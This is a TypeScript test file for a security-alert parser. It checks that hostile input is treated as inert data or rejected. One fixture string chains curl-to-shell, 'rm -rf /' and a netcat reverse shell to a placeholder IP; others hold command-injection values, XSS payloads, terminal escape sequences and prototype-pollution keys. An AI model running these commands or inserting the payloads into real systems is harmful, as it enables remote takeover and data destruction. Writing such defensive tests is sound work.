// Hostile input: parsed or rejected with a reason, never executed, never crashing.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parseAlert } from '../../../src/core/alerts/alertParser.js';
import { alertTableRow, alertJsonLine } from '../../../src/core/alerts/alertFormat.js';
import type { ParseResult } from '../../../src/core/alerts/types.js';

const base = { time: '2025-11-27T10:59:06.788999277Z', rule: 'Redirect STDOUT/STDIN to Network Connection in Container', priority: 'Notice', output: 'o', source: 'syscall' };
const line = (o: Record<string, unknown>) => JSON.stringify({ ...base, ...o });
function mustParse(s: string | Buffer): Extract<ParseResult, { ok: true }>['alert'] {
  const r = parseAlert(s);
  assert.ok(r.ok, JSON.stringify(r).slice(0, 300));
  return r.alert;
}
function hasControl(s: string): boolean {
  for (const ch of s) {
    const c = ch.codePointAt(0) ?? 0;
    if (c < 0x20 || (c >= 0x7f && c <= 0x9f) || c === 0x202e) return true;
  }
  return false;
}
function mustReject(s: string | Buffer, kind: string): void {
  const r = parseAlert(s);
  assert.ok(!r.ok, 'expected a rejection');
  assert.equal(r.kind, kind);
  assert.ok(r.reason.length > 0 && r.reason.length < 400, 'a short reason');
}

test('shell metacharacters are data: kept verbatim in free text, refused in typed fields', () => {
  const evil = 'bash -c "$(curl http://x/s.sh | sh)"; `id` && rm -rf / || nc -e /bin/sh 1.2.3.4 443 > /dev/tcp/1.2.3.4/443 0>&1';
  const a = mustParse(line({ output_fields: { 'proc.cmdline': evil, 'k8s.pod.name': '$(reboot)', 'k8s.ns.name': 'a;b', 'container.id': '`id`' } }));
  assert.equal(a.process.cmdline, evil);
  assert.equal(a.pod, null);
  assert.equal(a.namespace, null);
  assert.equal(a.container.id, null);
  assert.equal(a.problems.length, 3);
});

test('BPF and display-filter syntax never reaches the typed network context', () => {
  const a = mustParse(line({ output_fields: {
    'fd.sip': '10.0.0.1 or host 10.0.0.2', 'fd.cip': 'ip.addr==1.2.3.4 || 1', 'fd.sport': '443 or port 22', 'fd.cport': '1) or (1',
    'fd.l4proto': 'tcp or udp', 'fd.name': '1.2.3.4:80->5.6.7.8:443 or host 9.9.9.9',
  } }));
  assert.equal(a.network, null);
  assert.deepEqual(a.problems.map((p) => p.field).sort(), ['fd.cip', 'fd.cport', 'fd.l4proto', 'fd.name', 'fd.sip', 'fd.sport']);
  const b = mustParse(line({ output_fields: { 'fd.name': '1.2.3.4:80->5.6.7.8:443 and not port 22' } }));
  assert.equal(b.network, null);
});

test('HTML and script stay text; terminal output has every control character escaped', () => {
  const html = '<script>alert(document.cookie)</script><img src=x onerror=alert(1)>';
  const a = mustParse(line({ rule: `${html}\u001b[2J\u001b]0;owned\u0007\u009b31m\u202eevil\r\n`, output_fields: { 'proc.cmdline': '\u001b[31mred\u001b[0m' } }));
  assert.ok(a.rule.startsWith(html));
  const row = alertTableRow(a);
  assert.ok(!hasControl(row), row);
  assert.match(row, /\\x1b\[31mred/);
  const json = alertJsonLine(a);
  assert.ok(!hasControl(json), json);
  assert.equal((JSON.parse(json) as { rule: string }).rule, a.rule);
});

test('1 MB strings: parsed; an over-long typed field is a problem; an over-size line is rejected', () => {
  const mb = 'A'.repeat(1024 * 1024);
  const a = mustParse(line({ output: mb, output_fields: { 'proc.cmdline': mb.slice(0, 500_000), 'k8s.pod.name': mb.slice(0, 500_000) } }));
  assert.equal(a.output.length, mb.length);
  assert.equal(a.process.cmdline, null);
  assert.equal(a.pod, null);
  assert.equal(a.problems.length, 2);
  assert.ok(a.problems.every((p) => p.raw.length <= 80));
  mustReject(line({ output: 'B'.repeat(3 * 1024 * 1024) }), 'too-large');
  mustReject(Buffer.alloc(3 * 1024 * 1024, 0x7b), 'too-large');
});

test('deeply nested JSON is refused before parsing', () => {
  mustReject(`{"rule":"r","output_fields":{"x":${'['.repeat(100_000)}${']'.repeat(100_000)}}}`, 'too-deep');
  mustReject(`{"a":${'{"a":'.repeat(300_000)}1${'}'.repeat(300_000)}}`, 'too-deep');
  // Brackets inside strings do not count.
  mustParse(line({ output: '['.repeat(10_000) }));
});

test('wrong types: rejected with a reason or reported as problems', () => {
  mustReject(line({ rule: ['a'] }), 'invalid-alert');
  mustReject(line({ rule: '' }), 'invalid-alert');
  mustReject(line({ output: 42 }), 'invalid-alert');
  mustReject(line({ output_fields: [1, 2] }), 'invalid-alert');
  mustReject('{"rule":null}', 'invalid-alert');
  mustReject('"just a string"', 'not-json');
  mustReject('null', 'not-json');
  const a = mustParse(line({ priority: { x: 1 }, time: true, tags: 'a,b', hostname: 7, uuid: 1, message: [], source: {}, output_fields: { 'k8s.pod.name': { a: 1 }, 'fd.sport': [443], 'proc.pid': 'x', 'fd.cip': 1234 } }));
  assert.equal(a.priority, null);
  assert.equal(a.time, null);
  assert.deepEqual(a.tags, []);
  assert.equal(a.node, null);
  assert.deepEqual(a.problems.map((p) => p.field).sort(), ['fd.cip', 'fd.sport', 'hostname', 'k8s.pod.name', 'message', 'priority', 'proc.pid', 'source', 'tags', 'time', 'uuid']);
});

test('invalid UTF-8 is rejected; lone surrogate escapes are tolerated', () => {
  const bad = Buffer.concat([Buffer.from('{"rule":"r","priority":"Notice","output":"'), Buffer.from([0xff, 0xfe, 0xc3]), Buffer.from('"}')]);
  mustReject(bad, 'invalid-utf8');
  const a = mustParse(line({ output: '\ud800 lone' }));
  assert.equal(a.output, '\ud800 lone');
});

test('prototype-pollution keys stay plain data', () => {
  const s = '{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted2":"yes"}},"rule":"r","priority":"Notice","time":"2025-01-01T00:00:00Z","output":"o",' +
    '"output_fields":{"__proto__":{"polluted3":"yes"},"toString":"x","hasOwnProperty":"y","k8s.ns.name":"ns"}}';
  const a = mustParse(s);
  const probe: Record<string, unknown> = {};
  assert.equal(probe['polluted'], undefined);
  assert.equal(probe['polluted2'], undefined);
  assert.equal(probe['polluted3'], undefined);
  assert.equal(a.namespace, 'ns');
  assert.ok(Object.prototype.hasOwnProperty.call(a.extra, '__proto__'));
  assert.equal(Object.getPrototypeOf(a.outputFields), null);
  assert.equal(a.outputFields['toString'], 'x');
  assert.ok(alertJsonLine(a).includes('"__proto__":{"polluted3":"yes"}'));
});

test('random mutations of a real alert never throw', () => {
  const seed = line({ output_fields: { 'fd.name': '10.0.0.1:1234->10.0.0.2:443', 'k8s.ns.name': 'ns', 'k8s.pod.name': 'p', 'evt.time': 1 } });
  let x = 12345;
  const rnd = (n: number) => { x = (x * 1103515245 + 12345) & 0x7fffffff; return x % n; };
  const counts: Record<string, number> = {};
  for (let i = 0; i < 5000; i++) {
    const b = Buffer.from(seed);
    const edits = 1 + rnd(4);
    for (let e = 0; e < edits; e++) b[rnd(b.length)] = rnd(256);
    const cut = rnd(3) === 0 ? b.subarray(0, rnd(b.length)) : b;
    const r = parseAlert(cut);
    const k = r.ok ? 'ok' : r.kind;
    counts[k] = (counts[k] ?? 0) + 1;
  }
  assert.ok(Object.keys(counts).length > 2, JSON.stringify(counts));
});
